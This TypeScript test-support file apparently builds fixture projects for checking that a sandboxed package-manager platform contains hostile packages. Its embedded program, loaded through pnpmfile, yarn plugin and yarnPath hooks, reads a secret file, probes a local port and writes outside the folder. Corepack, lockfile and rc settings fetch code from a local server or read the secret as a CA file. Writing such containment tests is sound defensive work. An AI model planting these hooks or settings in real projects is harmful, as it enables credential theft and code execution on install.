import type { PackageFiles } from '../support/api-client.ts'
import { lockedProject, pnpmLock, yarn4Lock, yarnClassicLock } from '../platform/locked-projects.ts'

/** What code of a package tries: to read a file of the platform, to reach a port of the machine, and to write a file outside. */
export type Target = { secret: string; port: number; outside: string }

/**
 * A program that tries all of this before it returns, and notes the outcomes in a file of the folder in which the package manager
 * runs. Package managers load it from different places of the package.
 */
const tryAll = ({ secret, port, outside }: Target): string => `
const { execFileSync } = require('node:child_process')
const { readFileSync, writeFileSync } = require('node:fs')
const outcome = (work) => { try { return String(work()) } catch (error) { return 'failed: ' + (error.code || error.message) } }
const connecting = "require('node:net').connect(${port}, '127.0.0.1', () => process.exit(0)).on('error', () => process.exit(9))"
const tries = {
  read: outcome(() => readFileSync(${JSON.stringify(secret)}, 'utf8')),
  reached: outcome(() => execFileSync(process.execPath, ['-e', connecting]) && 'connected'),
  wrote: outcome(() => writeFileSync(${JSON.stringify(outside)}, 'evil')),
}
writeFileSync('tries.json', JSON.stringify(tries))
`

const project = (more: object, packageManager?: string): PackageFiles => {
  const files = lockedProject(packageManager)
  const listed: object = JSON.parse(files['package.json'])
  return { ...files, 'package.json': JSON.stringify({ ...listed, ...more }) }
}

/** Settings of a project that have its package manager run code, and whether this one is run at all. */
export const withCode = (target: Target): [name: string, isRun: boolean, files: PackageFiles][] => {
  const code = tryAll(target)
  const yarn = { '.yarn/releases/evil.cjs': code, 'yarn.lock': yarn4Lock }
  const pnpm = { ...lockedProject(), 'pnpm-lock.yaml': pnpmLock }
  return [
    ['pnpmfile', true, { ...pnpm, '.pnpmfile.cjs': `${code}\nmodule.exports = {}\n` }],
    [
      'yarn-plugin',
      true,
      {
        ...lockedProject(),
        ...yarn,
        '.yarn/plugins/evil.cjs': `module.exports = { name: 'evil', factory() { ${code}; return {} } }\n`,
        '.yarnrc.yml': 'plugins:\n  - path: .yarn/plugins/evil.cjs\n    spec: evil\n',
      },
    ],
    [
      'yarn-path',
      false,
      { ...lockedProject(), ...yarn, '.yarnrc.yml': 'yarnPath: .yarn/releases/evil.cjs\n' },
    ],
    [
      'yarn-1-path',
      false,
      {
        ...lockedProject(),
        '.yarn/releases/evil.cjs': code,
        'yarn.lock': yarnClassicLock,
        '.yarnrc': 'yarn-path ".yarn/releases/evil.cjs"\n',
      },
    ],
    // Corepack would fetch and run what this names. Nothing of the platform asks it.
    [
      'corepack',
      false,
      { ...project({}, `pnpm@http://127.0.0.1:${target.port}/evil.tgz`), 'pnpm-lock.yaml': pnpmLock },
    ],
  ]
}

/** Settings and lock files that name files of the platform, or ports of the machine. */
export const withAddresses = ({ secret, port, outside }: Target): [name: string, files: PackageFiles][] => {
  const origin = `http://127.0.0.1:${port}`
  const lead = (lock: string, from: RegExp) => lock.replaceAll(from, origin)
  const npmLock = (resolved: string) => ({
    ...project({ dependencies: { ms: '2.1.3' }, devDependencies: {} }),
    'package-lock.json': JSON.stringify({
      name: 'x',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { dependencies: { ms: '2.1.3' } },
        'node_modules/ms': { version: '2.1.3', resolved },
      },
    }),
  })
  const needing = (version: string): PackageFiles => project({ dependencies: { ms: version } })
  const pnpm = { ...lockedProject(), 'pnpm-lock.yaml': pnpmLock }
  const yarn = { ...lockedProject(), 'yarn.lock': yarn4Lock }
  const yarnClassic = { ...lockedProject(), 'yarn.lock': yarnClassicLock }
  return [
    ['npm-lock-url', npmLock(`${origin}/ms-2.1.3.tgz`)],
    ['npm-lock-file', npmLock(`file:${secret}`)],
    ['npm-lock-git', npmLock(`git+ssh://git@127.0.0.1:${port}/ms.git#main`)],
    ['needs-url', needing(`${origin}/ms-2.1.3.tgz`)],
    ['needs-git', needing(`git+http://127.0.0.1:${port}/ms.git`)],
    [
      'npmrc',
      {
        ...needing('2.1.3'),
        '.npmrc': `registry=${origin}/\nproxy=\nhttps-proxy=\nnoproxy=127.0.0.1\nfetch-retries=0\n`,
      },
    ],
    [
      'pnpm-lock-url',
      {
        ...pnpm,
        'pnpm-lock.yaml': pnpmLock.replaceAll('{integrity:', `{tarball: ${origin}/ms.tgz, integrity:`),
      },
    ],
    [
      'pnpm-npmrc',
      { ...pnpm, '.npmrc': `registry=${origin}/\ncafile=${secret}\nnoproxy=127.0.0.1\nfetch-retries=0\n` },
    ],
    [
      'pnpm-workspace',
      {
        ...pnpm,
        'pnpm-workspace.yaml': `storeDir: ${outside}\nmodulesDir: ${outside}\nregistry: ${origin}/\n`,
      },
    ],
    [
      'yarn-1-lock',
      { ...yarnClassic, 'yarn.lock': lead(yarnClassicLock, /https:\/\/registry\.yarnpkg\.com/g) },
    ],
    [
      'yarn-1-rc',
      { ...yarnClassic, '.yarnrc': `registry "${origin}"\ncache-folder "${outside}"\ncafile "${secret}"\n` },
    ],
    [
      'yarn-rc',
      {
        ...yarn,
        '.yarnrc.yml': `npmRegistryServer: "${origin}"\nunsafeHttpWhitelist: ["*"]\nhttpsCaFilePath: "${secret}"\nglobalFolder: "${outside}"\nenableScripts: true\n`,
      },
    ],
  ]
}
